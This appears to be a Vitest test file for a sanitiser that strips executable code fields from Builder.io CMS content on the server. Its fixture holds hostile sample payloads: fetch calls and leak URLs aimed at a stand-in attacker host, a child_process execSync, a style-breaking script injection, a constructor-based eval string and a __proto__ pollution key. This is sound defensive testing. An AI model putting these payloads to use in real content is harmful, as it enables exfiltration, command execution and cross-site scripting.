import { describe, expect, it } from 'vitest';
import { blockCodeFields, contentCodeFields, withoutContentCode } from './stripCode';

const element = '@builder.io/sdk:Element' as const;

/** Code in every place Builder's content format lets it hide, beside the data the page needs. */
function hostileEntry() {
  const codeOfBlock = {
    bindings: { 'component.options.title': 'process.exit(1)' },
    code: {
      bindings: { 'component.options.title': 'process.exit(2)' },
      actions: { click: 'process.exit(3)' },
    },
    actions: { click: 'fetch("https://attacker.test/click")' },
    repeat: { collection: 'process.getBuiltinModule("child_process").execSync("id")', itemName: 'item' },
  };
  const symbolContent = {
    id: 'symbol-entry',
    data: {
      jsCode: 'globalThis.ranInSymbol = true',
      httpRequests: { leak: 'https://attacker.test/symbol' },
      blocks: [
        {
          '@type': element,
          id: 'in-symbol',
          ...codeOfBlock,
          component: { name: 'Hero', options: { title: 'Symbol hero' } },
        },
      ],
    },
  };
  return {
    id: 'hostile',
    data: {
      title: 'Hostile',
      url: '/hostile',
      jsCode: 'process.getBuiltinModule("fs").writeFileSync("/tmp/marker", "ran")',
      tsCode: 'process.exit(4)',
      httpRequests: { leak: 'https://attacker.test/content' },
      cssCode: '</style><script>alert(1)</script>',
      state: { greeting: 'hello' },
      blocks: [
        {
          '@type': element,
          id: 'outer',
          ...codeOfBlock,
          responsiveStyles: { large: { color: 'red' } },
          children: [
            // No @type: a list of children holds blocks all the same, and the SDK would evaluate their bindings.
            {
              id: 'child',
              ...codeOfBlock,
              component: { name: 'RichText', options: { html: '<p>Kept</p>' } },
            },
          ],
        },
        {
          '@type': element,
          id: 'symbol',
          component: {
            name: 'Symbol',
            options: { symbol: { entry: 'symbol-entry', data: { jsCode: 'x' }, content: symbolContent } },
          },
        },
      ],
    },
    variations: {
      bold: {
        id: 'bold',
        testRatio: 0.5,
        data: {
          jsCode: 'globalThis.ranInVariation = true',
          httpRequests: { leak: 'https://attacker.test/variation' },
          blocks: [
            {
              '@type': element,
              id: 'variant',
              ...codeOfBlock,
              component: { name: 'Hero', options: { title: 'Bold' } },
            },
          ],
        },
      },
    },
  };
}

/** Every key path in a JSON value, for finding a forbidden field wherever it is. */
function keyPaths(value: unknown, path = ''): string[] {
  if (Array.isArray(value)) return value.flatMap((item, index) => keyPaths(item, `${path}[${index}]`));
  if (!value || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, child]) => [
    `${path}.${key}`,
    ...keyPaths(child, `${path}.${key}`),
  ]);
}

describe('executable fields are stripped from Builder content on the server', () => {
  it('content code: jsCode, tsCode, httpRequests and cssCode are gone from the page, its variations and nested symbols', () => {
    const paths = keyPaths(withoutContentCode(hostileEntry()));
    for (const field of contentCodeFields)
      expect(
        paths.filter((path) => path.endsWith(`.${field}`)),
        field,
      ).toEqual([]);
  });

  it('block code: bindings, code (bindings and actions), actions and repeat are gone from every block at every depth', () => {
    const paths = keyPaths(withoutContentCode(hostileEntry()));
    for (const field of blockCodeFields)
      expect(
        paths.filter((path) => path.endsWith(`.${field}`)),
        field,
      ).toEqual([]);
  });

  it('the data the page renders is kept: ids, titles, blocks, options, styles, state, variations', () => {
    const stripped = withoutContentCode(hostileEntry());
    expect(stripped).toMatchObject({
      id: 'hostile',
      data: {
        title: 'Hostile',
        state: { greeting: 'hello' },
        blocks: [
          {
            id: 'outer',
            responsiveStyles: { large: { color: 'red' } },
            children: [{ id: 'child', component: { name: 'RichText', options: { html: '<p>Kept</p>' } } }],
          },
          {
            id: 'symbol',
            component: { options: { symbol: { content: { data: { blocks: [{ id: 'in-symbol' }] } } } } },
          },
        ],
      },
      variations: { bold: { id: 'bold', testRatio: 0.5, data: { blocks: [{ id: 'variant' }] } } },
    });
  });

  it('never mutates the content it was given', () => {
    const entry = hostileEntry();
    const before = structuredClone(entry);
    withoutContentCode(entry);
    expect(entry).toEqual(before);
  });

  it('a __proto__ key in the JSON stays a plain key and changes no prototype', () => {
    const parsed = JSON.parse('{"id":"p","data":{"blocks":[{"__proto__":{"polluted":true},"id":"b"}]}}') as {
      data: { blocks: object[] };
    };
    const stripped = withoutContentCode(parsed);
    expect(Object.getPrototypeOf(stripped.data.blocks[0])).toBe(Object.prototype);
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });
});

describe('show/hide rules are followed on the server without running them', () => {
  const entry = (bindings: Record<string, string>, state: Record<string, unknown> = {}) => ({
    id: 'rules',
    data: { state, blocks: [{ '@type': '@builder.io/sdk:Element', id: 'ruled', bindings }] },
  });
  const ruled = (bindings: Record<string, string>, state?: Record<string, unknown>, urlPath = '/club') =>
    withoutContentCode(entry(bindings, state), { urlPath, locale: 'en-GB' }).data.blocks[0] as {
      properties?: Record<string, string>;
      refusedBindings?: Record<string, string>;
    };

  it("show/hide: a false show or a true hide becomes Builder's hide property, which the SDK and the live renderer follow", () => {
    expect(ruled({ show: 'state.member' }, { member: false }).properties).toEqual({ hide: 'true' });
    expect(ruled({ hide: 'state.points < 10' }, { points: 5 }).properties).toEqual({ hide: 'true' });
    expect(ruled({ show: 'state.member' }, { member: true }).properties).toBeUndefined();
    expect(ruled({ hide: "userAttributes.urlPath === '/club'" }).properties).toEqual({ hide: 'true' });
    expect(ruled({ hide: "userAttributes.urlPath === '/club'" }, {}, '/other').properties).toBeUndefined();
  });

  it("show/hide: a symbol's rules read the symbol's own state", () => {
    const stripped = withoutContentCode({
      data: {
        state: { inSymbol: false },
        blocks: [
          {
            id: 'symbol',
            component: {
              name: 'Symbol',
              options: {
                symbol: {
                  content: {
                    data: {
                      state: { inSymbol: true },
                      blocks: [{ id: 'inner', bindings: { show: 'state.inSymbol' } }],
                    },
                  },
                },
              },
            },
          },
        ],
      },
    });
    expect(JSON.stringify(stripped)).not.toContain('"hide"');
  });

  it('show/hide: a refused rule hides the block and names why, for the editor', () => {
    const block = ruled({ show: "constructor.constructor('x')()" });
    expect(block.properties).toEqual({ hide: 'true' });
    expect(block.refusedBindings?.show).toMatch(/so the block is hidden/);
    expect(ruled({ hide: 'state.x()' }).properties).toEqual({ hide: 'true' });
  });

  it("show/hide: a block with no condition is shown, and Builder's compiled rules are read as it saves them", () => {
    expect(ruled({}).properties).toBeUndefined();
    expect(ruled({ show: 'var _virtual_index=!0;return _virtual_index' }).properties).toBeUndefined();
    expect(ruled({ hide: 'var _virtual_index=!0;return _virtual_index' }).properties).toEqual({
      hide: 'true',
    });
    // The state starts from the content's inputs' defaults, as Builder's SDK starts it.
    const counted = withoutContentCode({
      data: {
        inputs: [{ '@type': '@builder.io/core:Field', name: 'clicks', type: 'number', defaultValue: 0 }],
        blocks: [
          {
            '@type': element,
            id: 'even',
            bindings: { show: 'var _virtual_index=state.clicks%2==0;return _virtual_index' },
          },
          {
            '@type': element,
            id: 'odd',
            bindings: { hide: 'var _virtual_index=state.clicks%2==0;return _virtual_index' },
          },
        ],
      },
    }).data.blocks as Array<{ properties?: Record<string, string> }>;
    expect(counted.map((block) => block.properties?.hide)).toEqual([undefined, 'true']);
  });

  it("bound options: a binding of the block's options the subset reads sets the option, as Builder's SDK does", () => {
    const bound = withoutContentCode({
      data: {
        state: { greeting: 'Hello', count: 3 },
        blocks: [
          {
            '@type': element,
            id: 'text',
            component: { name: 'Text', options: { text: 'Enter some text...' } },
            bindings: { 'component.options.text': 'var _virtual_index=state.greeting;return _virtual_index' },
          },
          {
            '@type': element,
            id: 'refused',
            component: { name: 'Text', options: { text: 'As set in the editor' } },
            bindings: { 'component.options.text': 'state.greet()', 'style.color': 'state.colour' },
          },
        ],
      },
    }).data.blocks as Array<{
      component: { options: { text: string } };
      refusedBindings?: Record<string, string>;
    }>;
    expect(bound[0]!.component.options.text).toBe('Hello');
    expect(bound[0]!.refusedBindings).toBeUndefined();
    expect(bound[1]!.component.options.text).toBe('As set in the editor');
    expect(bound[1]!.refusedBindings).toEqual({
      'component.options.text': expect.stringContaining('calls are not allowed'),
      'style.color': expect.stringContaining('follows only bindings of the block'),
    });
  });

  it("symbol inputs: a symbol instance's data reach its content's bindings, texts and images alike, per instance", () => {
    const symbolContent = {
      data: {
        inputs: [{ name: 'description', defaultValue: 'default description' }, { name: 'image' }],
        blocks: [
          {
            '@type': element,
            id: 'picture',
            component: { name: 'Image', options: { image: '/placeholder.png' } },
            bindings: { 'component.options.image': 'var _virtual_index=state.image;return _virtual_index' },
          },
          {
            '@type': element,
            id: 'words',
            component: { name: 'Text', options: { text: 'Enter some text...' } },
            bindings: {
              'component.options.text': 'var _virtual_index=state.description;return _virtual_index',
            },
          },
        ],
      },
    };
    const instance = (data: Record<string, unknown>) => ({
      '@type': element,
      id: `symbol-${String(data['description'])}`,
      component: {
        name: 'Symbol',
        options: { symbol: { model: 'symbol', entry: 's1', data, content: symbolContent } },
      },
    });
    const page = withoutContentCode({
      data: {
        blocks: [instance({ image: '/a.png' }), instance({ description: 'special', image: '/b.png' })],
      },
    });
    const drawn = JSON.stringify(page);
    expect(drawn).toContain('"image":"/a.png"');
    expect(drawn).toContain('"text":"default description"');
    expect(drawn).toContain('"image":"/b.png"');
    expect(drawn).toContain('"text":"special"');
    expect(drawn).not.toContain('Enter some text');
  });
});

describe("Builder Text's {{…}} is filled in on the server, never shown raw", () => {
  const textBlock = (text: string, state: Record<string, unknown> = {}) =>
    withoutContentCode({
      data: {
        state,
        blocks: [{ '@type': element, id: 'greeting', component: { name: 'Text', options: { text } } }],
      },
    }).data.blocks[0] as {
      component: { options: { text: string } };
      refusedBindings?: Record<string, string>;
    };

  it('text binding: a value of the content state the safe subset reads is filled in, as text', () => {
    const block = textBlock('<p>Hello {{ state.name }}, {{state.points}} points</p>', {
      name: '<b>Ada</b>',
      points: 1240,
    });
    expect(block.component.options.text).toBe('<p>Hello &#60;b&#62;Ada&#60;/b&#62;, 1240 points</p>');
    expect(block.refusedBindings).toBeUndefined();
  });

  it('text binding: one that cannot be evaluated shows nothing to shoppers and tells the editor why', () => {
    const block = textBlock('<p>Hello {{ state.user.name() }}{{state.missing}}!</p>');
    expect(block.component.options.text).toBe('<p>Hello !</p>');
    expect(block.refusedBindings?.['text']).toMatch(/"\{\{state\.user\.name\(\)\}\}" cannot be read/);
    expect(block.refusedBindings?.['text']).toMatch(/"\{\{state\.missing\}\}" has no text to show/);
    expect(block.refusedBindings?.['text']).toMatch(/shoppers see nothing there/);
  });
});
